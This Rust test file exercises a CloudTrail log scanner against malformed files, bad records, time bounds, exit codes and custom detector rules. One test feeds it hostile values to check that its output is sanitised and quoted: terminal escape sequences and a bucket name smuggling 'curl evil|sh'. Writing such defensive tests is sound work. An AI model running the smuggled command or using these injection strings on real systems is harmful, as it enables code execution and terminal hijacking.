//! Bad, foreign and hostile input: named with its reason, everything else analysed.

#![allow(
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::unwrap_used,
    reason = "the helpers of a test may fail as loudly as the test itself"
)]

mod common;

use std::fmt::Write as _;
use std::io::Write as _;
use std::path::{Path, PathBuf};

use arrow::array::AsArray;
use common::{Stop, findings, run_json, scan, table, trailsift};
use flate2::Compression;
use flate2::write::GzEncoder;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

fn gz(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn record(number: usize, changes: &Value) -> Value {
    let mut record = json!({
        "eventVersion": "1.11",
        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/eve",
            "accountId": "111122223333"},
        "eventTime": format!("2026-03-04T10:{:02}:{:02}Z", number / 60 % 60, number % 60),
        "eventSource": "s3.amazonaws.com",
        "eventName": "DeleteObject",
        "awsRegion": "eu-west-1",
        "requestParameters": {"bucketName": "payroll", "key": format!("k{number}")},
        "eventID": format!("id-{number}"),
        "eventType": "AwsApiCall",
        "recipientAccountId": "111122223333",
        "eventCategory": "Data",
    });
    for (key, value) in changes.as_object().unwrap() {
        record[key] = value.clone();
    }
    record
}

fn document(records: &[Value]) -> Vec<u8> {
    serde_json::to_vec(&json!({ "Records": records })).unwrap()
}

fn write(folder: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let path = folder.join(name);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, bytes).unwrap();
    path
}

#[test]
fn a_few_bad_files_among_a_thousand_good_ones() {
    let folder = tempfile::tempdir().unwrap();
    let logs = folder.path().join("logs");
    for number in 0..1_000 {
        let one = gz(&document(&[record(number % 3_000, &json!({}))]));
        write(&logs, &format!("a/b/{number:04}.json.gz"), &one);
    }
    let good = document(&[record(1, &json!({})), record(2, &json!({}))]);
    let packed = gz(&good);
    write(&logs, "truncated.json.gz", &packed[..packed.len() - 20]);
    write(&logs, "empty.json.gz", b"");
    write(&logs, "prose.json", b"this is not JSON");
    write(&logs, "other.json", br#"{"configurationItems": []}"#);
    write(&logs, "readme.txt", b"read me");
    let digest = br#"{"awsAccountId":"111122223333","digestStartTime":"2026-03-04T10:00:00Z",
        "digestS3Object":"AWSLogs/x.json.gz","previousDigestSignature":null,"logFiles":[]}"#;
    write(&logs, "AWSLogs/111122223333/CloudTrail-Digest/eu-west-1/d.json.gz", &gz(digest));
    std::os::unix::fs::symlink(logs.join("prose.json"), logs.join("link.json")).unwrap();
    let out = folder.path().join("out");
    let ran = scan(&[logs], &out, &[]);
    assert_eq!(ran.status, 4, "{}", ran.out);
    let run = run_json(&out);
    assert_eq!(
        run["objects"],
        json!({"listed": 1_007, "read": 1_001, "skipped": 3, "failed": 3, "partial": 1})
    );
    assert_eq!(run["balances"], true);
    for (name, reason) in [
        ("truncated.json.gz", "truncated gzip"),
        ("empty.json.gz", "empty"),
        ("prose.json", "not JSON"),
        ("other.json", "not CloudTrail"),
    ] {
        let named = ran.out.lines().any(|line| line.contains(name) && line.contains(reason));
        assert!(named, "{name}: {reason}\n{}", ran.out);
    }
    assert!(ran.out.contains("symbolic link, not followed"), "{}", ran.out);
    let deletes = findings(&out);
    assert_eq!(deletes.len(), 1, "{deletes:#?}");
    assert!(deletes[0].event_count >= 1_000);
}

#[test]
fn a_bad_record_is_rejected_alone() {
    let folder = tempfile::tempdir().unwrap();
    let good = |n| serde_json::to_string(&record(n, &json!({}))).unwrap();
    let bad = [
        r#""just text""#.to_owned(),
        serde_json::to_string(&record(1, &json!({"eventTime": "yesterday"}))).unwrap(),
        serde_json::to_string(&record(1, &json!({"eventTime": null}))).unwrap(),
        r#"{"eventTime":"2026-03-04T10:00:00Z","x":"\u12"}"#.to_owned(),
    ];
    let mut text = String::from(r#"{"Records":["#);
    for (number, bad) in bad.iter().enumerate() {
        text.extend([good(number).as_str(), ",", bad, ","]);
    }
    text += &good(9);
    text += "]}";
    write(folder.path(), "logs/a.json", text.as_bytes());
    let out = folder.path().join("out");
    let ran = scan(&[folder.path().join("logs")], &out, &[]);
    assert_eq!(ran.status, 4);
    let records = &run_json(&out)["records"];
    assert_eq!(
        (&records["seen"], &records["analysed"], &records["rejected"]),
        (&json!(9), &json!(5), &json!(4))
    );
    let rejected = &table(&out.join("rejected.parquet"))[0];
    let numbers = rejected["record_number"].as_primitive::<arrow::datatypes::Int64Type>();
    assert_eq!(numbers.values(), &[1, 3, 5, 7]);
    let offsets = rejected["byte_offset"].as_primitive::<arrow::datatypes::Int64Type>();
    for (offset, bad) in offsets.values().iter().zip(&bad) {
        let at = usize::try_from(*offset).unwrap();
        assert!(text[at..].starts_with(bad.as_str()), "{bad}");
    }
    assert_eq!(scan(&[folder.path().join("logs")], &out, &["--max-rejected", "4"]).status, 0);
    assert_eq!(scan(&[folder.path().join("logs")], &out, &["--exit-zero"]).status, 0);
}

#[test]
fn hostile_values_never_steer_the_terminal() {
    let folder = tempfile::tempdir().unwrap();
    let evil = "\u{1b}]0;pwned\u{7}\u{1b}[2J\r\u{202e}exe.txt\u{9b}31m";
    let identity = json!({"type": "IAMUser", "arn": format!("arn:aws:iam::1:user/{evil}")});
    let parameters = json!({"bucketName": evil, "x-amz-acl": "public-read"});
    let changes = json!({"userIdentity": identity, "requestParameters": parameters,
        "eventName": "PutBucketAcl", "sourceIPAddress": evil, "awsRegion": evil, "errorCode": evil});
    write(folder.path(), "logs/a.json", &document(&[record(0, &changes)]));
    write(
        folder.path(),
        &format!("logs/{evil}.json").replace('/', "_").replacen('_', "/", 1),
        b"x",
    );
    let out = folder.path().join("out");
    let ran = scan(&[folder.path().join("logs")], &out, &[]);
    assert!(ran.out.contains("S3 bucket opened to everyone"), "{}", ran.out);
    let forged = json!({"eventName": "PutBucketAcl", "requestParameters":
        {"bucketName": "b;curl evil|sh", "x-amz-acl": "public-read"}});
    write(folder.path(), "shell/a.json", &document(&[record(0, &forged)]));
    let shell = scan(&[folder.path().join("shell")], &out, &[]);
    assert!(shell.out.contains("--bucket 'b;curl evil|sh'"), "{}", shell.out);
    // Our own styles are the only escape sequences: ESC [ digits m.
    let plain = ran.out.split('\u{1b}').skip(1).all(|rest| {
        let end = rest.find('m').unwrap_or(0);
        rest.starts_with('[') && rest[1..end].chars().all(|c| c.is_ascii_digit() || c == ';')
    });
    assert!(plain, "{:?}", ran.out);
    let unsafe_left = |c: char| (c.is_control() && c != '\n' && c != '\u{1b}') || c == '\u{202e}';
    assert!(!ran.out.chars().any(unsafe_left), "{:?}", ran.out);
}

#[test]
fn time_bounds_filter_and_balance() {
    let folder = tempfile::tempdir().unwrap();
    let records: Vec<Value> = (0..180).map(|n| record(n, &json!({}))).collect();
    write(folder.path(), "logs/a.json.gz", &gz(&document(&records)));
    let out = folder.path().join("out");
    let bounds = ["--since", "2026-03-04T10:01:00Z", "--until", "2026-03-04T10:02:00Z"];
    assert_eq!(scan(&[folder.path().join("logs")], &out, &bounds).status, 0);
    let run = run_json(&out);
    assert_eq!(
        (&run["records"]["analysed"], &run["records"]["filtered"]),
        (&json!(60), &json!(120))
    );
    assert_eq!(run["balances"], true);
    assert_eq!(
        (&run["first_event"], &run["last_event"]),
        (&json!("2026-03-04T10:01:00Z"), &json!("2026-03-04T10:01:59Z"))
    );
}

#[test]
fn exit_status_tells_what_happened() {
    let folder = tempfile::tempdir().unwrap();
    let acl = json!({"eventName": "PutBucketAcl", "eventCategory": "Management",
        "requestParameters": {"bucketName": "b", "x-amz-acl": "public-read"}});
    write(folder.path(), "logs/a.json", &document(&[record(0, &acl)]));
    write(folder.path(), "broken/a.json", b"{");
    let out = folder.path().join("out");
    let logs = [folder.path().join("logs")];
    let both = [logs[0].clone(), folder.path().join("broken")];
    assert_eq!(scan(&logs, &out, &[]).status, 0);
    assert_eq!(scan(&logs, &out, &["--fail-on", "high"]).status, 3);
    assert_eq!(scan(&logs, &out, &["--fail-on", "critical"]).status, 0);
    assert_eq!(scan(&both, &out, &[]).status, 4);
    assert_eq!(scan(&both, &out, &["--fail-on", "low"]).status, 3);
    assert_eq!(scan(&both, &out, &["--fail-on", "low", "--exit-zero"]).status, 0);
    assert_eq!(scan(&both, &out, &["--max-rejected", "1"]).status, 0);
    assert_eq!(scan(&[folder.path().join("nowhere")], &out, &[]).status, 2);
    assert_eq!(scan(&logs, &out, &["--since", "yesterday"]).status, 2);
    assert_eq!(scan(&logs, &out, &["--since", "2026-03-05", "--until", "2026-03-04"]).status, 2);
    assert_eq!(scan(&logs, &out, &["--shard", "1/2"]).status, 2);
    assert_eq!(trailsift(["--help"]).status, 0);
    assert_eq!(trailsift(["scan", "--help"]).status, 0);
    let blocked = write(folder.path(), "file", b"");
    assert_eq!(scan(&logs, &blocked.join("out"), &[]).status, 1);
}

#[test]
fn an_interrupted_run_judges_what_was_read_and_says_so() {
    let folder = tempfile::tempdir().unwrap();
    for number in 0..10 {
        let one = document(&[record(number, &json!({}))]);
        write(folder.path(), &format!("logs/{number}.json"), &one);
    }
    let [logs, out] = ["logs", "out"].map(|name| folder.path().join(name));
    let options = common::options(vec![logs], &out);
    let stop = Stop(false.into());
    let run = trailsift::pipeline::scan(&options, &stop, &stop.0).unwrap();
    assert!(run.interrupted);
    let json = run_json(options.out.local().unwrap());
    assert_eq!((&json["interrupted"], &json["balances"]), (&json!(true), &json!(true)));
    assert_eq!(json["records"]["analysed"], json!(1));
    assert_eq!((&json["objects"]["listed"], &json["objects"]["skipped"]), (&json!(10), &json!(9)));
}

#[test]
fn a_run_that_looked_at_nothing_says_so() {
    let folder = tempfile::tempdir().unwrap();
    let (logs, text, out) = ("logs", "text", folder.path().join("out"));
    write(folder.path(), "text/readme.txt", b"read me");
    write(folder.path(), "logs/a.json", &document(&[record(0, &json!({}))]));
    for (inputs, more) in [(text, &[][..]), (logs, &["--since", "2030-01-01"])] {
        let ran = scan(&[folder.path().join(inputs)], &out, more);
        assert_eq!(ran.status, 0, "{}", ran.err);
        assert!(ran.out.contains("nothing was analysed"), "{}", ran.out);
        assert!(!ran.out.contains("no findings"), "{}", ran.out);
    }
}

#[test]
fn hashes_are_those_of_the_stored_bytes() {
    let folder = tempfile::tempdir().unwrap();
    let stored = gz(&document(&[record(0, &json!({}))]));
    write(folder.path(), "logs/a.json.gz", &stored);
    let out = folder.path().join("out");
    assert_eq!(scan(&[folder.path().join("logs")], &out, &["--hash"]).status, 0);
    let manifest = &table(&out.join("manifest.parquet"))[0];
    let expected = Sha256::digest(&stored).iter().fold(String::new(), |mut text, byte| {
        write!(text, "{byte:02x}").unwrap();
        text
    });
    assert_eq!(manifest["sha256"].as_string::<i32>().value(0), expected);
}

#[test]
fn an_output_folder_inside_the_input_is_no_input() {
    let folder = tempfile::tempdir().unwrap();
    let logs = folder.path().join("logs");
    write(&logs, "a.json", &document(&[record(0, &json!({}))]));
    let out = logs.join("out");
    assert_eq!(scan(std::slice::from_ref(&logs), &out, &[]).status, 0);
    let first = std::fs::read(out.join("findings.parquet")).unwrap();
    let ran = scan(&[logs], &out, &[]);
    assert_eq!(ran.status, 0, "{}", ran.out);
    assert_eq!(std::fs::read(out.join("findings.parquet")).unwrap(), first);
}

#[test]
fn a_new_detector_is_two_files_and_no_rust() {
    let folder = tempfile::tempdir().unwrap();
    let rule = "title: Bucket removed\nname: bucket_removed\n\
        logsource: {product: aws, service: cloudtrail}\ndetection:\n  selection:\n    \
        eventName: DeleteBucket\n  condition: selection\ntrailsift:\n  severity: 9.0\n  \
        description: '{principal} removed {bucket}'\n";
    write(folder.path(), "rules/bucket_removed.yml", rule.as_bytes());
    // A document that cannot be read must not shift the sections of the others.
    let mixed = "title: Unreadable\ntrailsift: {severity: 9.9}\n---\ntitle: 'Key {made}'\n\
        name: key_made\nlogsource: {product: aws}\ndetection:\n  selection:\n    \
        eventName: CreateAccessKey\n  condition: selection\ntrailsift:\n  severity: 5.0\n  \
        details: userAgent\n  description: 'by {details}'\n";
    write(folder.path(), "rules/mixed.yml", mixed.as_bytes());
    // A bad section costs its own document only; the other one of the file runs.
    let bad = "title: Bad section\nname: bad\nlogsource: {product: aws}\ndetection:\n  \
        selection:\n    eventName: X\n  condition: selection\ntrailsift: {severty: 2}\n---\n\
        title: Its neighbour\nname: neighbour\nlogsource: {product: aws}\ndetection:\n  \
        selection:\n    eventName: DeleteBucket\n  condition: selection\nlevel: low\n";
    write(folder.path(), "rules/bad.yml", bad.as_bytes());
    let broken = "title: Broken\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  \
        selection:\n    eventName|frob: x\n  condition: selection\n";
    write(folder.path(), "rules/broken.yml", broken.as_bytes());
    let delete = json!({"eventName": "DeleteBucket", "eventCategory": "Management"});
    let key = json!({"eventName": "CreateAccessKey", "eventSource": "iam.amazonaws.com",
        "userAgent": "x\n  id        forged"});
    write(folder.path(), "logs/a.json", &document(&[record(0, &delete), record(1, &key)]));
    let out = folder.path().join("out");
    let rules = folder.path().join("rules");
    let ran = scan(&[folder.path().join("logs")], &out, &["--detectors", rules.to_str().unwrap()]);
    assert_eq!(ran.status, 0, "{}", ran.err);
    let found = findings(&out);
    let names: Vec<(&str, f64)> = found.iter().map(|f| (f.detector.as_str(), f.severity)).collect();
    assert_eq!(
        names,
        [("bucket_removed", 9.0), ("key_made", 5.0), ("bucket_deleted", 3.5), ("neighbour", 3.0)]
    );
    assert!(!ran.out.contains("\n  id        forged"), "{}", ran.out);
    assert!(ran.out.contains("eve removed payroll"), "{}", ran.out);
    assert!(ran.out.contains("unknown key `severty`"), "{}", ran.out);
    assert!(ran.out.contains("broken.yml") && ran.out.contains("modifier `frob`"), "{}", ran.out);
}
